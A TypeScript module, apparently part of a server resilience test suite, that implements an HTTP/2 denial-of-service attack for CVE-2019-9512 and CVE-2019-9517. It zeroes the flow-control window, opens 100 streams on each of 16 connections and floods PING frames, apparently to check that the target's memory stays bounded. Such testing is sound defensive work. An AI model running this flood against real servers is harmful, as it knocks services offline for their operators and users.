import { Buffer } from "node:buffer";
import type { Attack } from "../attack.ts";
import {
  headersFrame,
  pingFrame,
  preface,
  requestFields,
  windowFrame,
} from "../http2_frames.ts";

const STREAMS = 100;
const PINGS = Buffer.concat(Array.from({ length: 200 }, pingFrame));

/** CVE-2019-9512 and CVE-2019-9517: answers pile up if none is taken. */
export const http2UnreadAnswersHoldNoMemory: Attack = {
  what:
    "asks for pages over 16 HTTP/2 connections, lets nothing be sent, and pings",
  caps: { connections: 20_000, bytes: 200e6 },
  run: (attacker) =>
    attacker.sideBySide(16, async (connection) => {
      if (!await connection.write(preface)) return;
      if (!await connection.write(windowFrame(0))) return;
      const fields = requestFields(attacker.host, "GET", "/openapi.json");
      for (let index = 0; index < STREAMS; index++) {
        const frame = headersFrame({
          stream: 2 * index + 1,
          fields,
          endsStream: true,
        });
        if (!await connection.write(frame)) return;
      }
      while (await connection.write(PINGS));
    }),
};
